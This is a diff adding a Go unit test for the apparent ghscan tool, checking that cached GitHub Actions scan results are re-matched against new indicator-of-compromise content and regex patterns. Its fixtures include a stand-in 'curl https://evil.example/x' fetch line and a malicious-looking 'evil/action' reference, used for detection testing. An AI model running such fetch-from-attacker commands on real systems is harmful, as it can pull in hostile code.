@@ -0,0 +1,61 @@
+package action_test
+
+import (
+	"testing"
+
+	"github.com/chainguard-dev/ghscan/internal/action"
+	ghscan "github.com/chainguard-dev/ghscan/pkg/ghscan"
+	"github.com/chainguard-dev/ghscan/pkg/ioc"
+)
+
+func TestReanalyze(t *testing.T) {
+	t.Parallel()
+
+	cached := []ghscan.Result{
+		{Repository: "o/a", LineData: "curl https://evil.example/x", IOCName: "old"},
+		{Repository: "o/b", DecodedData: "token=DROP_ME", IOCName: "old"},
+		{Repository: "o/c", OffendingUsesLine: "uses: evil/action@v1", IOCName: "old"},
+		{Repository: "o/d", LineData: "nothing interesting", IOCName: "old"},
+	}
+
+	cases := []struct {
+		name     string
+		cfg      ioc.Config
+		wantRepo []string
+	}{
+		{name: "content in line", cfg: ioc.Config{Name: "new", Content: []string{"evil.example"}}, wantRepo: []string{"o/a"}},
+		{name: "content in decoded", cfg: ioc.Config{Name: "new", Content: []string{"DROP_ME"}}, wantRepo: []string{"o/b"}},
+		{name: "content in uses line", cfg: ioc.Config{Name: "new", Content: []string{"evil/action"}}, wantRepo: []string{"o/c"}},
+		{name: "pattern", cfg: ioc.Config{Name: "new", Pattern: `DROP_[A-Z]+|interesting`}, wantRepo: []string{"o/b", "o/d"}},
+		{name: "no match", cfg: ioc.Config{Name: "new", Content: []string{"absent"}}},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			findIOC, err := ioc.NewIOC(&tc.cfg)
+			if err != nil {
+				t.Fatalf("NewIOC: %v", err)
+			}
+			got := action.Reanalyze(cached, findIOC)
+			if len(got) != len(tc.wantRepo) {
+				t.Fatalf("Reanalyze returned %d results, want %d: %+v", len(got), len(tc.wantRepo), got)
+			}
+			for i, r := range got {
+				if r.Repository != tc.wantRepo[i] {
+					t.Fatalf("got[%d].Repository=%q, want %q", i, r.Repository, tc.wantRepo[i])
+				}
+				if r.IOCName != "new" {
+					t.Fatalf("got[%d].IOCName=%q, want new", i, r.IOCName)
+				}
+				if want := ghscan.Fingerprint(r); r.Fingerprint != want {
+					t.Fatalf("got[%d].Fingerprint=%q, want %q for the new IOC", i, r.Fingerprint, want)
+				}
+			}
+			for _, r := range cached {
+				if r.IOCName != "old" {
+					t.Fatalf("input mutated: %+v", r)
+				}
+			}
+		})
+	}
+}